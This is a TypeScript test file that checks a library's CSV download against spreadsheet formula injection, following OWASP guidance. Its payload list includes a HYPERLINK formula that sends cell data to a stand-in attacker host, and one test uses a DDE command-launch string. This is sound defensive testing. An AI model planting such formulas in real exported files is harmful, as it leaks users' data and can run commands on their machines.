/**
 * "Get the data: CSV" must never hand a reader's spreadsheet a formula (issue #13, item
 * 2; OWASP's CSV injection guidance): every text cell quoted, and any text cell that could
 * start a formula, after whatever a spreadsheet might skip first, neutralised with a
 * leading apostrophe. Checked on toCsv() and on the file an element really writes.
 */
import { expect } from '@open-wc/testing';
import { html, type LitElement } from 'lit';
import '../../src/index.js';
import { toCsv } from '../../src/shared/downloads.js';
import { sample } from '../fixtures/sample.js';
import { mount } from '../helpers.js';

/**
 * Cells as a spreadsheet reads them: split on `separator`, a quote opening a quoted
 * stretch only at the start of a cell (as the splitter sees cells), `""` inside it a quote.
 */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') {
      quoted = true;
    } else if (ch === '\n' && text[i - 1] === '\r') {
      continue;
    } else if (ch === separator || ch === '\r' || ch === '\n') {
      row.push(cell);
      cell = '';
      if (ch !== separator) {
        rows.push(row);
        row = [];
      }
    } else cell += ch;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet may treat as a formula: `= + - @` (or full-width) after optional whitespace and invisible characters. */
const FORMULA = /^[\s"\p{Cc}\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u0000=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff20SUM(A1)',
  'x;=1+1;',
  'x,=1+1,',
  'a "quoted" =1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
];

describe('CSV downloads', () => {
  it('quote every text cell and neutralise every formula start, for comma and semicolon splitters', () => {
    const csv = toCsv({ caption: '', columns: ['Name', 'Count'], rows: PAYLOADS.map((p, i) => [p, i]) });
    const lines = csv.split('\r\n').filter(Boolean);
    // Every text cell is quoted: each line starts with a quote (the text cell), numbers are bare.
    expect(lines.every((line) => line.startsWith('"'))).to.equal(true);
    for (const separator of [',', ';']) {
      const rows = parseCsv(csv, separator);
      const cells = rows.flat();
      for (const cell of cells) expect(FORMULA.test(cell), `${separator}: ${JSON.stringify(cell)}`).to.equal(false);
    }
    // Read with a comma, as written, every payload comes back whole, with apostrophes added at most.
    const back = parseCsv(csv, ',').slice(1);
    const unquote = (text: string) => text.replace(/'/g, '');
    back.forEach(([cell], i) => expect(unquote(cell!)).to.equal(unquote(PAYLOADS[i]!)));
    expect(back.map(([cell]) => cell)).to.include.members(["'=1+1", "x;'=1+1;", "'\uff1d1+1"]);
  });

  it('a graphic’s own CSV carries no formula from the data, its joined Sources column included', async () => {
    const data = sample();
    data.sources[0]!.publisher = 'x;=1+1;';
    data.sources[0]!.title = '\uff1dcmd|" /C calc"!A0';
    data.sources[1]!.title = ' @SUM(1+1)';
    for (const r of data.recommendations) r.owner = '-2+3';
    data.recommendationSets[0]!.body = '\t=1+1';
    const el = await mount(html`<recommendation-status .data=${data}></recommendation-status>`, 800);
    const create = URL.createObjectURL;
    const click = HTMLAnchorElement.prototype.click;
    let blob: Blob | null = null;
    URL.createObjectURL = (b: Blob | MediaSource) => ((blob = b as Blob), 'blob:captured');
    HTMLAnchorElement.prototype.click = function () {};
    try {
      el.shadowRoot!.querySelector<HTMLButtonElement>('[part~=download]')!.click();
      // The downloads' code may still be loading (table-loader.ts): updateComplete waits for it.
      await (el as LitElement).updateComplete;
    } finally {
      URL.createObjectURL = create;
      HTMLAnchorElement.prototype.click = click;
    }
    const csv = await (blob as unknown as Blob).text();
    expect(csv).to.contain("x;'=1+1;");
    for (const separator of [',', ';'])
      for (const cell of parseCsv(csv, separator).flat())
        expect(FORMULA.test(cell), `${separator}: ${JSON.stringify(cell)}`).to.equal(false);
  });
});
